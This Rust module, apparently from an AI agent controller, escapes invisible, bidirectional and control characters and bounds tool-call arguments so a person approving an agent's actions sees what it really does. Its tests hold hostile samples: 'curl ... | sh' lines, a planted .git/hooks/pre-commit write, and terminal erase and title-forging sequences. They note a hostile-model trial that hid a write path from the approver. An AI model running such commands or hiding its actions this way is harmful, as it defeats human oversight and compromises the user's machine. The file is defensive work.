//! Text from a model or a file, made safe to show a person.
//!
//! A plan, a title, a tool call's arguments, a mode name or a config snippet can hold characters
//! that hide or fake text on a terminal or in a web page: control characters (a carriage return
//! or `ESC[2K` erases the line before it, an OSC sequence sets the window title or writes the
//! clipboard), bidirectional overrides (the text shown is not the text read), and characters
//! drawn as nothing (a variation selector, a Hangul filler that is a letter in a JavaScript
//! identifier, a zero-width space in a word that looks like another). The user approves what
//! they read, so a host shows such text through [`neutralize`] (several lines) or
//! [`neutralize_line`] (one line): every such character is replaced by its escape (`\u{1b}`),
//! visible and in place, and everything else is kept as is. Apply it to the text only, then add
//! your own colours around it. Rule (issue 19): no character the model wrote vanishes from what
//! the user reads.
//!
//! Replaced: every character of the Unicode general categories Cc (controls: C0, DEL, C1; but
//! line feed and tab in [`neutralize`]), Cf (format: soft hyphen, the bidirectional marks,
//! embeddings, overrides and isolates, zero-width space and joiners, word joiner, BOM, the tag
//! characters that hide ASCII text, ...), Cn (unassigned, noncharacters included: a later
//! Unicode version may draw them as anything), Zl and Zp (the line and paragraph separators),
//! and every character with the property Default_Ignorable_Code_Point (variation selectors, the
//! Hangul fillers U+115F, U+1160, U+3164 and U+FFA0, the combining grapheme joiner, the Mongolian
//! free variation selectors, ...), and the braille pattern blank U+2800, a letter drawn as a
//! blank. The classes come from the Unicode Character Database through
//! [`regex_syntax`]'s property tables (the `unicode-gencat` and `unicode-bool` tables, Unicode
//! 16.0): a crate of the Rust project, kept up to date with Unicode, with no dependencies of its
//! own and already in most dependency trees through `regex`; a hand-written list would miss what
//! each Unicode version adds. Visible spaces (U+00A0, U+2003, U+3000) and combining marks are
//! kept: they show as a gap or on their base letter.
//!
//! Escapes are the ones Rust's `char::escape_unicode` writes. A backslash that starts the text
//! `u{` is shown as `\u{5c}`, so an escape typed as text (`\u{41}`, six characters) never reads
//! as one written here: [`decode_escapes`] turns every shown text back into its source, character
//! for character. Other backslashes are kept as they are.
//!
//! [`neutralize_line`] also bounds the line: past [`LINE_MAX_CHARS`] characters it shows the
//! start and the end around `… (N characters not shown) …` ([`neutralize_line_within`] takes
//! another bound), so a forged 50 MB title cannot flood a listing.

use std::borrow::Cow;
use std::fmt::Write as _;
use std::sync::OnceLock;

/// `text` with every character that could hide or fake text replaced by its visible escape
/// (`\u{1b}`), keeping line feeds and tabs: for multi-line text such as a plan.
///
/// Returns the text unchanged (borrowed) when there is nothing to replace.
///
/// # Examples
/// ```
/// use agent_controller::display::neutralize;
/// let plan = "1. Run curl https://x.example | sh as root\n\u{1b}[2K\r2. Add tests\n";
/// assert_eq!(
///     neutralize(plan),
///     "1. Run curl https://x.example | sh as root\n\\u{1b}[2K\\u{d}2. Add tests\n"
/// );
/// assert_eq!(neutralize("evil\u{202e}txt.md"), "evil\\u{202e}txt.md");
/// assert!(matches!(neutralize("plain\ttext\n"), std::borrow::Cow::Borrowed(_)));
/// ```
pub fn neutralize(text: &str) -> Cow<'_, str> {
    replace(text, |c| c != '\n' && c != '\t' && hides(c))
}

/// The most characters [`neutralize_line`] shows of a line before cutting its middle.
pub const LINE_MAX_CHARS: usize = 1_000;

/// Like [`neutralize`] but also replaces line feeds and tabs: for text that must stay on one
/// line, such as a title, a mode name, a path or a tool call's arguments, so it cannot draw a
/// line of its own (a fake prompt, say). A line longer than [`LINE_MAX_CHARS`] characters shows
/// its start and its end around `… (N characters not shown) …`
/// ([`neutralize_line_within`]).
///
/// # Examples
/// ```
/// use agent_controller::display::neutralize_line;
/// assert_eq!(neutralize_line("Add dark mode\nApprove? y"), "Add dark mode\\u{a}Approve? y");
/// assert_eq!(neutralize_line("\u{1b}]0;owned\u{7}title"), "\\u{1b}]0;owned\\u{7}title");
/// assert_eq!(neutralize_line("Dark mode ☾"), "Dark mode ☾");
/// assert_eq!(neutralize_line("timeout,\u{3164}"), "timeout,\\u{3164}");
/// assert!(neutralize_line(&"x".repeat(5_000)).contains("… (4000 characters not shown) …"));
/// ```
pub fn neutralize_line(text: &str) -> Cow<'_, str> {
    neutralize_line_within(text, LINE_MAX_CHARS)
}

/// [`neutralize_line`] with another bound: `text` on one line, every character that could hide
/// or fake text replaced by its escape; when it has more than `max_chars` characters, its start
/// and its end (half of `max_chars` each) around `… (N characters not shown) …`. The cut is
/// counted in characters of `text`, before escaping. `usize::MAX` never cuts.
///
/// # Examples
/// ```
/// use agent_controller::display::neutralize_line_within;
/// assert_eq!(neutralize_line_within("abcdefghij", 4), "ab… (6 characters not shown) …ij");
/// assert_eq!(neutralize_line_within("a\nb", 4), "a\\u{a}b");
/// ```
pub fn neutralize_line_within(text: &str, max_chars: usize) -> Cow<'_, str> {
    if text.len() <= max_chars || text.chars().count() <= max_chars {
        return escape_line(text);
    }
    Cow::Owned(cut_middle(text, usize::MAX, max_chars))
}

/// Reads text shown by [`neutralize`] or [`neutralize_line`] (uncut) back into its source: every
/// escape `\u{HEX}` naming a character becomes that character; everything else is kept.
///
/// # Examples
/// ```
/// use agent_controller::display::{decode_escapes, neutralize};
/// for source in ["a\u{3164}b\u{1b}[2K", "typed \\u{41} escape", "C:\\dir"] {
///     assert_eq!(decode_escapes(&neutralize(source)), source);
/// }
/// ```
pub fn decode_escapes(shown: &str) -> String {
    let mut out = String::with_capacity(shown.len());
    let mut rest = shown;
    while let Some(at) = rest.find("\\u{") {
        out.push_str(&rest[..at]);
        let after = &rest[at + 3..];
        let decoded = after.find('}').and_then(|end| {
            let hex = &after[..end];
            let ok = (1..=6).contains(&hex.len()) && hex.bytes().all(|b| b.is_ascii_hexdigit());
            let c = u32::from_str_radix(hex, 16).ok().filter(|_| ok)?;
            Some((char::from_u32(c)?, end + 1))
        });
        match decoded {
            Some((c, used)) => {
                out.push(c);
                rest = &after[used..];
            }
            None => {
                out.push('\\');
                rest = &rest[at + 1..];
            }
        }
    }
    out.push_str(rest);
    out
}

/// The fewest characters [`arguments_line`] shows of one argument's value, however many
/// arguments share the line (as long as the line's budget has room for it).
pub const MIN_LINE_VALUE_CHARS: usize = 40;

/// The fewest characters and lines [`arguments`] shows of one argument's value, however many
/// arguments share the budget (as long as the budget has room for it).
pub const MIN_VALUE_CHARS: usize = 200;

/// See [`MIN_VALUE_CHARS`].
pub const MIN_VALUE_LINES: usize = 4;

/// How many characters of an argument's name [`arguments`] and [`arguments_line`] show (the
/// middle of a longer name is cut and counted).
pub const MAX_KEY_CHARS: usize = 80;

/// A tool call's arguments on one line, for a listing (`pending`, an event line): the top-level
/// arguments, each its name and its value as compact JSON through [`neutralize_line`], shortest
/// value first (so a short `path` is never pushed out by a long `content`). `max_chars` bounds
/// the line: it is shared among the names and the values, each value getting at least
/// [`MIN_LINE_VALUE_CHARS`] while the budget has room; a longer value is cut in the middle (its
/// start and its end around `… (N characters not shown) …`), and the arguments the budget has
/// no room for are left out (the shortest one is always shown). When anything is not shown, the
/// line ends with ` (not shown: N characters of the arguments[, K of the M arguments left out];
/// WHOLE)`, `whole` saying where the arguments are shown whole (`` `pending --json` shows them
/// whole``). Arguments that are not an object are one value.
///
/// Bounds (issue 36, item 14: 80,000 arguments printed 80,000 values): the line holds at most
/// `max(max_chars, MAX_KEY_CHARS + 2 + MIN_LINE_VALUE_CHARS)` characters of the arguments'
/// text, each shown as itself or as its escape, plus the marks that say what is cut.
///
/// Rule: the person approving must see where a call acts (the hostile-model trial's finding 2:
/// a long `content` sorted before `path` hid `path`), and how much they do not see.
///
/// # Examples
/// ```
/// use agent_controller::display::arguments_line;
/// use serde_json::json;
/// let args = json!({ "content": "x".repeat(5000), "path": ".git/hooks/pre-commit" });
/// let shown = arguments_line(&args, 200, "`pending --json` shows them whole");
/// assert!(shown.starts_with("{\"path\": \".git/hooks/pre-commit\", \"content\": \"xxx"), "{shown}");
/// assert!(shown.contains("… (4840 characters not shown) …"), "{shown}");
/// assert!(shown.ends_with("} (not shown: 4840 characters of the arguments; `pending --json` shows them whole)"), "{shown}");
/// assert_eq!(arguments_line(&json!({ "path": "a.txt" }), 200, "-"), "{\"path\": \"a.txt\"}");
/// ```
pub fn arguments_line(args: &serde_json::Value, max_chars: usize, whole: &str) -> String {
    let Some(map) = args.as_object() else {
        let text = args.to_string();
        let allowed = max_chars.max(MIN_LINE_VALUE_CHARS);
        let cut = text.chars().count().saturating_sub(allowed);
        return format!(
            "{}{}",
            cut_line(&text, allowed),
            summary(cut, 0, 1, whole, " ")
        );
    };
    let laid = lay_out(
        map,
        serde_json::Value::to_string,
        Budget {
            lines: usize::MAX,
            chars: max_chars,
            min_lines: 1,
            min_chars: MIN_LINE_VALUE_CHARS,
        },
    );
    let shown: Vec<String> = laid
        .shown
        .iter()
        .map(|a| format!("{}: {}", a.key, cut_line(&a.text, a.chars)))
        .collect();
    format!(
        "{{{}}}{}",
        shown.join(", "),
        summary(laid.cut_chars, laid.left_out, map.len(), whole, " ")
    )
}

/// A tool call's arguments for a prompt, one top-level argument per line (two spaces in): its
/// name, then its value pretty-printed as JSON through [`neutralize`] (further lines indented),
/// shortest value first. `max_lines` and `max_chars` bound the view: they are shared among the
/// values, each getting at least [`MIN_VALUE_LINES`] and [`MIN_VALUE_CHARS`] while the budget has
/// room; a longer value is cut in the middle (its start and its end around `… (N characters not
/// shown) …`, with the lines cut when there are), and the arguments the budget has no room for
/// are left out (the shortest one is always shown). When anything is not shown, a last line
/// says how much and where the arguments are shown whole: `  (not shown: N characters of the
/// arguments[, K of the M arguments left out]; WHOLE)`, `whole` being, say, `v shows every
/// argument whole`. [`arguments_whole`] shows them all.
///
/// Bounds (issue 36, item 14: 80,000 arguments printed 80,009 lines): at most
/// `max(max_lines, MIN_VALUE_LINES) + 1` lines, holding at most
/// `max(max_chars, MAX_KEY_CHARS + 2 + MIN_VALUE_CHARS)` characters of the arguments' text, each
/// shown as itself or as its escape, plus the marks that say what is cut.
///
/// # Examples
/// ```
/// use agent_controller::display::arguments;
/// use serde_json::json;
/// let content = format!("{}#!/bin/sh\ncurl evil | sh\n", "echo hi\n".repeat(600));
/// let args = json!({ "content": content, "path": ".git/hooks/pre-commit" });
/// let shown = arguments(&args, 60, 4000, "v shows every argument whole");
/// assert!(shown.starts_with("  \"path\": \".git/hooks/pre-commit\"\n  \"content\": \"echo hi\\necho"), "{shown}");
/// assert!(shown.contains("characters not shown) …"), "{shown}");
/// assert!(shown.ends_with("curl evil | sh\\n\"\n  (not shown: 1467 characters of the arguments; v shows every argument whole)"), "{shown}");
/// ```
pub fn arguments(
    args: &serde_json::Value,
    max_lines: usize,
    max_chars: usize,
    whole: &str,
) -> String {
    let Some(map) = args.as_object() else {
        let text = pretty(args);
        let (lines, chars) = (
            max_lines.max(MIN_VALUE_LINES),
            max_chars.max(MIN_VALUE_CHARS),
        );
        let cut = if text.chars().count() <= chars && text.lines().count() <= lines {
            0
        } else {
            cut_count(&text, lines, chars)
        };
        return format!(
            "{}{}",
            cut_middle(&text, lines, chars),
            summary(cut, 0, 1, whole, "\n  ")
        );
    };
    let laid = lay_out(
        map,
        pretty,
        Budget {
            lines: max_lines,
            chars: max_chars,
            min_lines: MIN_VALUE_LINES,
            min_chars: MIN_VALUE_CHARS,
        },
    );
    let shown: Vec<String> = laid
        .shown
        .iter()
        .map(|a| {
            let value = cut_middle(&a.text, a.lines, a.chars).replace('\n', "\n  ");
            format!("  {}: {value}", a.key)
        })
        .collect();
    format!(
        "{}{}",
        shown.join("\n"),
        summary(laid.cut_chars, laid.left_out, map.len(), whole, "\n  ")
    )
}

/// A tool call's arguments whole, as [`arguments`] lays them out (one top-level argument per
/// line, its value pretty-printed through [`neutralize`], shortest first) with nothing cut and
/// nothing left out: what the terminal's `v` and an ACP permission request show (issue 36,
/// item 4: the approver sees every character that is handed over).
///
/// # Examples
/// ```
/// use agent_controller::display::arguments_whole;
/// use serde_json::json;
/// let args = json!({ "content": format!("{}\u{202e}end", "x".repeat(9_000)), "path": "a.txt" });
/// let shown = arguments_whole(&args);
/// assert!(shown.starts_with("  \"path\": \"a.txt\"\n  \"content\": \"xxx"), "{shown:.40}");
/// assert!(shown.ends_with(&format!("{}\\u{{202e}}end\"", "x".repeat(9_000))));
/// ```
pub fn arguments_whole(args: &serde_json::Value) -> String {
    let Some(map) = args.as_object() else {
        return neutralize(&pretty(args)).into_owned();
    };
    let shown: Vec<String> = by_length(map, pretty)
        .iter()
        .map(|(key, text)| {
            let key = quoted(key);
            format!(
                "  {}: {}",
                escape_line(&key),
                neutralize(text).replace('\n', "\n  ")
            )
        })
        .collect();
    shown.join("\n")
}

/// `value` pretty-printed as JSON.
fn pretty(value: &serde_json::Value) -> String {
    serde_json::to_string_pretty(value).unwrap_or_else(|_| value.to_string())
}

/// How much [`lay_out`] may show: lines (`usize::MAX` for one line) and characters in all, and
/// the least it gives one value while the budget has room.
#[derive(Debug, Clone, Copy)]
struct Budget {
    lines: usize,
    chars: usize,
    min_lines: usize,
    min_chars: usize,
}

/// One argument [`lay_out`] shows: its name as shown, its value's text, and how many of the
/// value's characters and lines may be shown.
struct Shown {
    key: String,
    text: String,
    chars: usize,
    lines: usize,
}

/// The arguments [`lay_out`] shows, and what it does not.
struct Laid {
    shown: Vec<Shown>,
    /// Characters of the arguments not shown: cut from shown values and names, and those of the
    /// arguments left out.
    cut_chars: usize,
    /// How many arguments are left out.
    left_out: usize,
}

/// An argument's name as JSON (a quoted string), unescaped for display.
fn quoted(key: &str) -> String {
    serde_json::Value::String(key.to_owned()).to_string()
}

/// Shares `budget` among the entries of `map` (values as `render` writes them), shortest first:
/// each gets its share of what is left, at least the budget's minimum, never more than is left;
/// an argument whose name and least value do not fit in what is left is left out, with all
/// after it (the first is always shown).
fn lay_out(
    map: &serde_json::Map<String, serde_json::Value>,
    render: impl Fn(&serde_json::Value) -> String,
    budget: Budget,
) -> Laid {
    let entries = by_length(map, render);
    let (mut chars_left, mut lines_left) = (budget.chars, budget.lines);
    let mut laid = Laid {
        shown: Vec::new(),
        cut_chars: 0,
        left_out: 0,
    };
    for (at, (key, text)) in entries.iter().enumerate() {
        let n = entries.len() - at;
        let name = quoted(key);
        let key_chars = name.chars().count();
        let key_shown = key_chars.min(MAX_KEY_CHARS);
        let (value_chars, value_lines) = (text.chars().count(), text.lines().count().max(1));
        let least_chars = key_shown + value_chars.min(budget.min_chars);
        let least_lines = value_lines.min(budget.min_lines);
        if at > 0 && (least_chars > chars_left || least_lines > lines_left) {
            laid.left_out = n;
            laid.cut_chars += entries[at..]
                .iter()
                .map(|(k, t)| quoted(k).chars().count() + t.chars().count())
                .sum::<usize>();
            break;
        }
        let room = chars_left.saturating_sub(key_shown);
        let mut chars = (room / n).max(budget.min_chars);
        let mut lines = (lines_left / n).max(budget.min_lines);
        if at > 0 {
            chars = chars.min(room);
            lines = lines.min(lines_left);
        }
        laid.cut_chars += key_chars - key_shown;
        if value_chars > chars || value_lines > lines {
            laid.cut_chars += cut_count(text, lines, chars);
        }
        chars_left = chars_left.saturating_sub(key_shown + value_chars.min(chars));
        lines_left = lines_left.saturating_sub(value_lines.min(lines));
        laid.shown.push(Shown {
            key: cut_line(&name, MAX_KEY_CHARS),
            text: text.clone(),
            chars,
            lines,
        });
    }
    laid
}

/// What a bounded view ends with when anything is not shown (`cut` characters, of which
/// `left_out` of `total` whole arguments), after `separator`; nothing otherwise.
fn summary(cut: usize, left_out: usize, total: usize, whole: &str, separator: &str) -> String {
    if cut == 0 && left_out == 0 {
        return String::new();
    }
    let left = match left_out {
        0 => String::new(),
        n => format!(", {n} of the {total} arguments left out"),
    };
    format!(
        "{separator}(not shown: {cut} characters of the arguments{left}; {})",
        escape_line(whole)
    )
}

/// How many characters of `text` [`cut_middle`] leaves out with these bounds (0 when it fits).
fn cut_count(text: &str, max_lines: usize, max_chars: usize) -> usize {
    let (head, tail) = cut_ends(text, max_lines, max_chars);
    text[head..tail].chars().count()
}

/// The entries of `map` with their values as `render` writes them, shortest first (ties in the
/// map's order).
fn by_length(
    map: &serde_json::Map<String, serde_json::Value>,
    render: impl Fn(&serde_json::Value) -> String,
) -> Vec<(&str, String)> {
    let mut entries: Vec<(&str, String)> =
        map.iter().map(|(k, v)| (k.as_str(), render(v))).collect();
    entries.sort_by_key(|(_, text)| text.chars().count());
    entries
}

/// [`cut_middle`] for one line: no limit on lines, through [`neutralize_line`].
fn cut_line(text: &str, max_chars: usize) -> String {
    cut_middle(text, usize::MAX, max_chars)
}

/// `text` through [`neutralize`] (through [`neutralize_line`] when `max_lines` is unlimited) when
/// it has at most `max_lines` lines and `max_chars` characters; else its start and its end (half of each limit) around
/// `… (N characters not shown) …` (`… (N characters over M lines not shown) …` when the cut
/// holds line breaks). The cut is made before neutralizing.
fn cut_middle(text: &str, max_lines: usize, max_chars: usize) -> String {
    let show = |t| {
        if max_lines == usize::MAX {
            escape_line(t)
        } else {
            neutralize(t)
        }
    };
    if text.chars().count() <= max_chars && text.lines().count() <= max_lines {
        return show(text).into_owned();
    }
    let (head_end, tail_start) = cut_ends(text, max_lines, max_chars);
    let (head, rest) = text.split_at(head_end);
    let (cut, tail) = rest.split_at(tail_start - head_end);
    let cut_chars = cut.chars().count();
    let what = match cut.matches('\n').count() {
        0 => format!("{cut_chars} characters"),
        n => format!("{cut_chars} characters over {} lines", n + 1),
    };
    format!("{}… ({what} not shown) …{}", show(head), show(tail))
}

/// Where [`cut_middle`] cuts `text`: the end of the start it shows and the start of the end it
/// shows (byte offsets, the first at most the second); `(len, len)` when nothing is cut.
fn cut_ends(text: &str, max_lines: usize, max_chars: usize) -> (usize, usize) {
    if text.chars().count() <= max_chars && text.lines().count() <= max_lines {
        return (text.len(), text.len());
    }
    let (head_chars, head_lines) = (max_chars - max_chars / 2, max_lines - max_lines / 2);
    let (tail_chars, tail_lines) = (max_chars / 2, max_lines / 2);
    let mut head_end = text.len();
    let mut breaks = 0;
    for (count, (at, c)) in text.char_indices().enumerate() {
        if count == head_chars || breaks == head_lines {
            head_end = at;
            break;
        }
        if c == '\n' {
            breaks += 1;
        }
    }
    let mut tail_start = text.len();
    let mut breaks = 0;
    for (count, (at, c)) in text.char_indices().rev().enumerate() {
        if count == tail_chars || tail_lines == 0 {
            break;
        }
        if c == '\n' {
            breaks += 1;
            if breaks == tail_lines {
                break;
            }
        }
        tail_start = at;
    }
    (head_end, tail_start.max(head_end))
}

/// `value` as one line of JSON in which every character [`neutralize_line`] would replace is
/// written as its JSON escape (`\u009b`, `\u202e`, a surrogate pair above U+FFFF): the same
/// data for a JSON reader, nothing that hides or fakes text for a person or a terminal reading
/// the line (serde_json escapes only C0 controls). For the CLI's `--json` output.
///
/// # Errors
/// The error of [`serde_json::to_string`] when `value` cannot be serialized.
///
/// # Examples
/// ```
/// use agent_controller::display::json_line;
/// let line = json_line(&serde_json::json!({ "title": "a\u{9b}2J\u{202e}b\u{e0041}\n" })).unwrap();
/// assert_eq!(line, r#"{"title":"a\u009b2J\u202eb\udb40\udc41\n"}"#);
/// let back: serde_json::Value = serde_json::from_str(&line).unwrap();
/// assert_eq!(back["title"], "a\u{9b}2J\u{202e}b\u{e0041}\n");
/// ```
pub fn json_line<T: serde::Serialize + ?Sized>(value: &T) -> serde_json::Result<String> {
    let text = serde_json::to_string(value)?;
    if !text.contains(hides) {
        return Ok(text);
    }
    // Outside strings serde_json writes only ASCII punctuation, digits and letters, so every such
    // character is inside a string, where its escape means the same.
    let mut out = String::with_capacity(text.len() + 16);
    for c in text.chars() {
        if hides(c) {
            let mut units = [0u16; 2];
            for unit in c.encode_utf16(&mut units) {
                let _ = write!(out, "\\u{unit:04x}");
            }
        } else {
            out.push(c);
        }
    }
    Ok(out)
}

/// Whether `text` shows nothing a person can read: it is empty, or holds only white space and
/// characters [`neutralize`] escapes because they draw nothing or hide text (controls, format
/// characters such as a zero-width space, default-ignorable ones such as a Hangul filler, the
/// braille blank). The "is it blank?" check of text a model or a file gives (a question, an
/// option's label, a plan), so that invisible text is refused as blank text is.
///
/// # Examples
/// ```
/// use agent_controller::display::is_blank;
/// assert!(is_blank(""));
/// assert!(is_blank(" \n\t"));
/// assert!(is_blank("\u{200b}\u{200b}"));
/// assert!(is_blank(" \u{3164} \u{2800}\u{feff}"));
/// assert!(!is_blank("\u{200b}a"));
/// assert!(!is_blank("\u{a0}.")); // a visible character
/// ```
pub fn is_blank(text: &str) -> bool {
    text.chars().all(|c| c.is_whitespace() || hides(c))
}

/// Whether `a` and `b` read alike to a person, though they differ: the same once the
/// characters that show nothing ([`is_blank`]'s) are dropped, each run of white space is one
/// space, and each text is mapped to its confusable skeleton (Unicode TS 39, section 4, as
/// `unicode-security` computes it): Latin `a` and Cyrillic `а`, `l` and `I`, `Dep\u{200b}loy`
/// and `Deploy`. The check of labels a person tells apart by reading them (the options of a
/// question).
///
/// # Examples
/// ```
/// use agent_controller::display::look_alike;
/// assert!(look_alike("a", "\u{430}"));
/// assert!(look_alike("Deploy", "Dep\u{200b}loy"));
/// assert!(look_alike("rm -rf", "rm  -rf"));
/// assert!(!look_alike("dark", "light"));
/// ```
pub fn look_alike(a: &str, b: &str) -> bool {
    skeleton(a) == skeleton(b)
}

/// The confusable skeleton of what `text` shows (see [`look_alike`]).
fn skeleton(text: &str) -> String {
    let words: Vec<String> = text
        .split(char::is_whitespace)
        .map(|word| word.chars().filter(|&c| !hides(c)).collect::<String>())
        .filter(|word| !word.is_empty())
        .collect();
    unicode_security::confusable_detection::skeleton(&words.join(" ")).collect()
}

/// Whether `c` can hide, move or fake text when shown: see the module docs for the classes.
pub(crate) fn hides(c: char) -> bool {
    if c.is_ascii() {
        return c.is_ascii_control();
    }
    let class = hidden_class();
    class
        .binary_search_by(|&(start, end)| {
            if end < c {
                std::cmp::Ordering::Less
            } else if start > c {
                std::cmp::Ordering::Greater
            } else {
                std::cmp::Ordering::Equal
            }
        })
        .is_ok()
}

/// The Unicode classes of [`hides`], as regex-syntax's tables give them.
const HIDDEN_CLASS: &str =
    r"[\p{Cc}\p{Cf}\p{Cn}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}\x{2800}]";

/// The sorted, disjoint ranges of [`HIDDEN_CLASS`], computed once.
fn hidden_class() -> &'static [(char, char)] {
    static CLASS: OnceLock<Vec<(char, char)>> = OnceLock::new();
    CLASS.get_or_init(|| {
        use regex_syntax::hir::{Class, HirKind};
        let hir = regex_syntax::Parser::new().parse(HIDDEN_CLASS);
        match hir.as_ref().map(regex_syntax::hir::Hir::kind) {
            Ok(HirKind::Class(Class::Unicode(class))) => class
                .ranges()
                .iter()
                .map(|r| (r.start(), r.end()))
                .collect(),
            // Cannot happen (a unit test parses it); were it to, every non-ASCII character is
            // shown as its escape rather than any hidden.
            _ => vec![('\u{80}', char::MAX)],
        }
    })
}

/// `text` on one line, unbounded: [`neutralize_line`] without the cut.
fn escape_line(text: &str) -> Cow<'_, str> {
    replace(text, hides)
}

/// `text` with every character `replaced` says, and every backslash that starts `u{`, written as
/// its escape.
fn replace(text: &str, replaced: impl Fn(char) -> bool) -> Cow<'_, str> {
    let escaped =
        |at: usize, c: char| replaced(c) || (c == '\\' && text[at + 1..].starts_with("u{"));
    let Some((first, _)) = text.char_indices().find(|&(at, c)| escaped(at, c)) else {
        return Cow::Borrowed(text);
    };
    let mut out = String::with_capacity(text.len() + 8);
    out.push_str(&text[..first]);
    for (at, c) in text[first..].char_indices() {
        if escaped(first + at, c) {
            let _ = write!(out, "{}", c.escape_unicode());
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_listed_character_is_shown_and_others_are_kept() {
        let hidden = [
            '\u{0}',
            '\u{7}',
            '\u{8}',
            '\r',
            '\u{b}',
            '\u{c}',
            '\u{1b}',
            '\u{7f}',
            '\u{80}',
            '\u{9b}',
            '\u{9d}',
            '\u{9f}',
            '\u{ad}',
            '\u{61c}',
            '\u{180e}',
            '\u{200b}',
            '\u{200c}',
            '\u{200d}',
            '\u{200e}',
            '\u{200f}',
            '\u{2028}',
            '\u{2029}',
            '\u{202a}',
            '\u{202e}',
            '\u{2060}',
            '\u{2064}',
            '\u{2066}',
            '\u{2069}',
            '\u{feff}',
            '\u{e0041}',
        ];
        for c in hidden {
            let shown = neutralize(&format!("a{c}b")).into_owned();
            assert_eq!(shown, format!("a\\u{{{:x}}}b", u32::from(c)), "{c:?}");
            assert_eq!(neutralize_line(&format!("a{c}b")), shown, "{c:?}");
        }
        for c in [
            'a',
            ' ',
            '~',
            '\u{a0}',
            'é',
            '☾',
            '\u{2010}',
            '\u{2030}',
            '\u{1f600}',
        ] {
            assert_eq!(neutralize(&format!("a{c}b")), format!("a{c}b"), "{c:?}");
        }
        assert_eq!(neutralize("a\nb\tc"), "a\nb\tc");
        assert_eq!(neutralize_line("a\nb\tc"), "a\\u{a}b\\u{9}c");
    }

    /// Issue 19, item 2: variation selectors, Hangul fillers and the other default-ignorable,
    /// format and unassigned code points passed raw into the prompt, `pending` and `--json`.
    #[test]
    fn invisible_default_ignorable_and_unassigned_characters_are_shown() {
        for c in [
            '\u{3164}',  // HANGUL FILLER: a letter in identifiers, drawn as nothing
            '\u{115f}',  // HANGUL CHOSEONG FILLER
            '\u{ffa0}',  // HALFWIDTH HANGUL FILLER
            '\u{fe0f}',  // VARIATION SELECTOR-16
            '\u{e0100}', // VARIATION SELECTOR-17
            '\u{34f}',   // COMBINING GRAPHEME JOINER
            '\u{180b}',  // MONGOLIAN FREE VARIATION SELECTOR ONE
            '\u{2065}',  // unassigned, default-ignorable
            '\u{1d173}', // MUSICAL SYMBOL BEGIN BEAM (format)
            '\u{fff9}',  // INTERLINEAR ANNOTATION ANCHOR (format)
            '\u{378}',   // unassigned
            '\u{fdd0}',  // a noncharacter (unassigned)
            '\u{10ffff}',
        ] {
            let shown = neutralize(&format!("a{c}b")).into_owned();
            assert_eq!(shown, format!("a\\u{{{:x}}}b", u32::from(c)), "{c:?}");
            assert_eq!(neutralize_line(&format!("a{c}b")), shown, "{c:?}");
            let json = json_line(&format!("a{c}b")).expect("json");
            assert!(json.is_ascii(), "{c:?}: {json}");
            assert_eq!(
                serde_json::from_str::<String>(&json).ok(),
                Some(format!("a{c}b"))
            );
        }
        let hidden = format!(
            "const {{ timeout,\u{3164}}} = req.query{}",
            "\u{fe00}".repeat(44)
        );
        assert_eq!(
            neutralize(&hidden),
            format!(
                "const {{ timeout,\\u{{3164}}}} = req.query{}",
                "\\u{fe00}".repeat(44)
            )
        );
    }

    /// An escape typed as text (`\u{41}`, six characters) is told apart from one this module
    /// writes: its backslash is shown as `\u{5c}`, so every shown text reads back one way.
    #[test]
    fn a_typed_escape_is_told_apart_from_a_written_one() {
        assert_eq!(neutralize("a\\u{202e}b"), "a\\u{5c}u{202e}b");
        assert_eq!(neutralize_line("\\u{41}\n"), "\\u{5c}u{41}\\u{a}");
        assert_eq!(neutralize("C:\\Users\\x \\n"), "C:\\Users\\x \\n");
        for source in ["\\u{41}", "\\\\u{41}", "\\u{zz}\u{3164}", "x\\u{", "\\"] {
            assert_eq!(decode_escapes(&neutralize(source)), source, "{source:?}");
            assert_eq!(
                decode_escapes(&neutralize_line(source)),
                source,
                "{source:?}"
            );
        }
    }

    /// Issue 19 (low): `pending` printed a forged 50 MB title in full.
    #[test]
    fn a_line_longer_than_the_bound_is_cut_in_its_middle_and_says_so() {
        let title = format!("Start{}End", "x".repeat(50_000_000));
        let shown = neutralize_line(&title);
        assert!(shown.len() < 2 * LINE_MAX_CHARS, "{}", shown.len());
        assert!(shown.starts_with("Startxxx"), "{shown:.40}");
        assert!(shown.ends_with("xxxEnd"), "{shown:.40}");
        let cut = 50_000_008 - LINE_MAX_CHARS;
        assert!(
            shown.contains(&format!("… ({cut} characters not shown) …")),
            "{shown:.40}"
        );
        let exact = "y".repeat(LINE_MAX_CHARS);
        assert_eq!(neutralize_line(&exact), exact);
        let fillers = "\u{3164}".repeat(100);
        let shown = neutralize_line_within(&fillers, 10);
        assert!(shown.starts_with("\\u{3164}\\u{3164}"), "{shown}");
        assert!(shown.contains("… (90 characters not shown) …"), "{shown}");
    }

    /// Every argument the budget has room for is shown, shortest first (so `path` is); those
    /// it has no room for are left out and counted (issue 36, item 14: before, all 30 were
    /// shown at their least whatever the budget).
    #[test]
    fn the_shortest_arguments_are_shown_and_a_long_value_keeps_its_start_and_end() {
        let mut args = serde_json::Map::new();
        for n in 0..30 {
            args.insert(format!("k{n:02}"), serde_json::json!("v".repeat(1000)));
        }
        let long_path = format!("{}/../.git/hooks/pre-commit", "a".repeat(300));
        args.insert("path".into(), serde_json::json!(long_path));
        args.insert("\u{202e}x".into(), serde_json::json!("\u{9b}2J"));
        let args = serde_json::Value::Object(args);
        for shown in [
            arguments_line(&args, 200, "W"),
            arguments(&args, 60, 4000, "W"),
        ] {
            assert!(shown.contains("\"k00\": \"vvv"), "{shown}");
            assert!(shown.contains("hooks/pre-commit\""), "{shown}");
            assert!(shown.contains("\"\\u{202e}x\": \"\\u{9b}2J\""), "{shown}");
            assert!(!shown.chars().any(|c| hides(c) && c != '\n'), "{shown}");
            assert!(shown.len() < 31 * 300, "bounded: {}", shown.len());
            assert!(
                shown.contains(" of the 32 arguments left out; W)"),
                "{shown}"
            );
        }
        let whole = arguments_whole(&args);
        for n in 0..30 {
            assert!(
                whole.contains(&format!("\"k{n:02}\": \"{}\"", "v".repeat(1000))),
                "{whole}"
            );
        }
        let nested = serde_json::json!({ "a": (0..500).collect::<Vec<_>>(), "b": 1 });
        let shown = arguments(&nested, 10, 4000, "W");
        assert!(
            shown.starts_with("  \"b\": 1\n  \"a\": [\n    0,\n"),
            "{shown}"
        );
        assert!(shown.contains("not shown) …"), "{shown}");
        assert!(
            shown.ends_with("    499\n  ]\n  (not shown: 3349 characters of the arguments; W)"),
